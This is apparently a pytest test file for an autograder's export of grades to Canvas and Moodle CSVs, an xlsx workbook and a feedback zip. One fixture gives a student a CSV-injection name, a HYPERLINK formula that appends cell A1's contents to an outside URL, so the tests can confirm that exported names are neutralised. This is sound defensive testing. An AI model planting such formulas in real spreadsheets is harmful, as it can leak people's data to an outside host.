"""`mha export`: files as Canvas and Moodle let an instructor download them, filled in; a workbook; feedback in a zip."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest

from autograder.classroom.directory import CourseDirectory
from autograder.classroom.export.feedback_zip import feedback_zip
from autograder.classroom.export.gradebook import filled, new
from autograder.classroom.export.ledger import Ledger, ledger
from autograder.classroom.export.lms import CANVAS, MOODLE
from autograder.classroom.export.workbook import write_workbook
from autograder.classroom.policy import Policy
from autograder.classroom.results import Learner, LearnerResult, results
from autograder.problem import Problem

from .mha import Mha, mha
from .test_classroom_collect import pack
from .test_classroom_create import nbgrader
from .tiny import RIGHT, SUBTRACTS, UNIT, grade, hand_in

__all__ = ["mha"]

FORMULA = '=HYPERLINK("http://example.org/"&A1,"marks")'
# As Canvas writes it: a byte order mark, a row for posting, the points possible, students by "Last, First", read-only totals.
CANVAS_FILE = (
    "\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,A sum (20417),Essay (20418),Final Score\r\n"
    ",,,,,,Manual Posting,\r\n"
    "    Points Possible,,,,,10.00,5.00,(read only)\r\n"
    '"Lovelace, Ada",901,u-901,ada@example.org,Attention 101,,4.50,45.00\r\n'
    '"Bell, Bob",902,u-902,bob@example.org,Attention 101,,,\r\n'
    '"Student, Test",999,,f00,Attention 101,,,\r\n'
)
MOODLE_FILE = (
    "First name;Last name;ID number;Email address;Assignment: 01_tiny_sum (Real);Assignment: 01_tiny_sum (Feedback);Last downloaded from this course\n"
    "Ada;Lovelace;901;ada@example.org;-;;1767225600\n"
    "Bob;Bell;;bob@example.org;-;;1767225600\n"
)


@pytest.fixture
def graded(directory: CourseDirectory) -> CourseDirectory:
    """Ada has 10 of 10, Bob subtracts, Cleo calls herself a formula and has handed in nothing."""
    with directory.course.gradebook() as gradebook:
        gradebook.add_student("ada", first_name="Ada", last_name="Lovelace", lms_user_id="901", email="ada@example.org")
        gradebook.add_student("bob", first_name="Bob", last_name="Bell", lms_user_id="902", email="bob@example.org")
        gradebook.add_student("cleo", first_name=f"    {FORMULA}", last_name="@SUM(1)", lms_user_id="903")
    hand_in(directory, "ada", RIGHT)
    hand_in(directory, "bob", SUBTRACTS)
    grade(directory)
    return directory


def book_of(directory: CourseDirectory) -> Ledger:
    return ledger(results(directory, directory.units), Policy())


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_a_new_canvas_file_has_its_columns_points_and_a_total_that_it_does_not_read(graded: CourseDirectory) -> None:
    heads, points, *found = rows(new(book_of(graded), CANVAS).text())
    assert heads == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", *graded.units, "Final Points"]
    assert points == ["    Points Possible", "", "", "", "", "10", "10", "(read only)"]
    assert ["Lovelace, Ada", "901", "", "ada", "", "10", "", "10"] in found
    assert ["Bell, Bob", "902", "", "bob", "", "4", "", "4"] in found


def test_a_downloaded_canvas_file_comes_back_with_marks_and_nothing_else_changed(
    graded: CourseDirectory, tmp_path: Path
) -> None:
    path = tmp_path / "grades.csv"
    path.write_text(CANVAS_FILE, encoding="utf-8")
    sheet = filled(book_of(graded), CANVAS, path, {UNIT: "A sum"})
    before, after = rows(CANVAS_FILE.lstrip("\ufeff")), rows(sheet.text())
    assert (after[3][5], after[4][5]) == ("10", "4")
    after[3][5] = after[4][5] = ""
    assert after == before
    assert sheet.left_out == ()


def test_a_downloaded_moodle_file_gets_marks_and_what_the_mistakes_are(graded: CourseDirectory, tmp_path: Path) -> None:
    path = tmp_path / "grades.csv"
    path.write_text(MOODLE_FILE, encoding="utf-8")
    _, ada, bob = rows(filled(book_of(graded), MOODLE, path, {}).text())
    assert ada[4:6] == ["10", ""]
    assert bob[4:6] == ["4", "tiny_sum.add: That is the difference."]


def test_who_is_not_in_the_file_is_named_and_two_of_one_address_are_left_alone(
    graded: CourseDirectory, tmp_path: Path
) -> None:
    with graded.course.gradebook() as gradebook:
        gradebook.update_or_create_student("ada", email="bob@example.org")
    path = tmp_path / "grades.csv"
    path.write_text(MOODLE_FILE.replace("901", ""), encoding="utf-8")
    sheet = filled(book_of(graded), MOODLE, path, {})
    assert [row[4] for row in rows(sheet.text())[1:]] == ["-", "-"]
    assert sorted(one.id for one in sheet.left_out) == ["ada", "bob"]


@pytest.mark.parametrize(("text", "says"), [("", "is empty"), ("Student,ID\nx,1\n", "has no column for any of"), (b"\xff\xfe", "cannot be read")])  # fmt: skip
def test_a_file_that_is_no_gradebook_is_refused_in_words(
    graded: CourseDirectory, tmp_path: Path, text: str | bytes, says: str
) -> None:
    path = tmp_path / "grades.csv"
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    with pytest.raises(Problem, match=says):
        filled(book_of(graded), CANVAS, path, {})


def test_no_name_is_a_formula_in_any_file(graded: CourseDirectory, tmp_path: Path) -> None:
    for lms in (CANVAS, MOODLE):
        cells = [cell for row in rows(new(book_of(graded), lms).text()) for cell in row]
        assert any("HYPERLINK" in cell for cell in cells)
        assert not [cell for cell in cells if cell.strip()[:1] in tuple("=+-@")]
    write_workbook(tmp_path / "marks.xlsx", book_of(graded), results(graded, graded.units))
    with zipfile.ZipFile(tmp_path / "marks.xlsx") as book:
        sheets = [ElementTree.fromstring(book.read(f"xl/worksheets/sheet{n}.xml")) for n in (1, 2, 3)]
        texts = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
    assert not [node for sheet in sheets for node in sheet.iter() if node.tag.endswith("}f")]
    assert FORMULA in [node.text for node in texts.iter()]
    numbers = [node.text for node in sheets[0].iter() if node.tag.endswith("}v")]
    assert numbers.count("10") >= 3  # the points of both units and Ada's marks


def test_what_waits_for_a_person_is_left_empty() -> None:
    one = LearnerResult(Learner("ada", "", "", ""), "01_a", "unreadable", 10.0)
    (line,) = ledger([one], Policy()).lines
    assert (dict(line.marks), line.waiting) == ({}, ("01_a",))


def test_feedback_is_named_like_the_file_that_was_handed_in(graded: CourseDirectory) -> None:
    archive = graded.root / "downloaded" / UNIT / "archive"
    data = hand_in(graded, "ada", RIGHT).read_bytes()
    pack(archive / "submissions.zip", ["lovelaceada_LATE_901_20417_tiny_sum-1.ipynb"], data)
    pack(archive / "CS-4711.zip", ["Bob Bell_4311_assignsubmission_file_/tiny_sum.ipynb"], data)
    learners = [line.learner for line in book_of(graded).lines]
    with pytest.raises(Problem, match="nbgrader zip_collect"):
        feedback_zip(graded, UNIT, learners, graded.root / "f.zip")
    assert nbgrader(graded, "zip_collect", UNIT, "--force").returncode == 0
    for learner in ("ada", "bob", "cleo"):
        graded.feedback(learner, UNIT).mkdir(parents=True)
        (graded.feedback(learner, UNIT) / "tiny_sum.html").write_text(learner)
    assert feedback_zip(graded, UNIT, learners, graded.root / "f.zip") == (2, ["cleo"])
    with zipfile.ZipFile(graded.root / "f.zip") as packed:
        assert {name: packed.read(name) for name in packed.namelist()} == {
            "lovelaceada_LATE_901_20417_tiny_sum.html": b"ada",
            "Bob Bell_4311_assignsubmission_file_/tiny_sum.html": b"bob",
        }


def test_the_command_writes_each_format_and_refuses_what_does_not_go_together(
    mha: Mha, graded: CourseDirectory
) -> None:
    for kind, name in (
        ("canvas", "canvas.csv"),
        ("moodle", "moodle.csv"),
        ("xlsx", "marks.xlsx"),
        ("csv", "marks.csv"),
    ):
        said = mha("export", graded.root, "--format", kind)
        assert (said.code, said.out.strip()) == (0, str(graded.root / name))
        assert (graded.root / name).stat().st_size > 100
    path = graded.root / "downloaded.csv"
    path.write_text(CANVAS_FILE.replace('"Bell, Bob",902', '"Bell, Bob",77').replace("bob@", "b@"), encoding="utf-8")
    said = mha("export", graded.root, "--format", "canvas", "--fill", path)
    assert "left out: bob." in said.err
    assert mha("export", graded.root, "--fill", path).code == 2
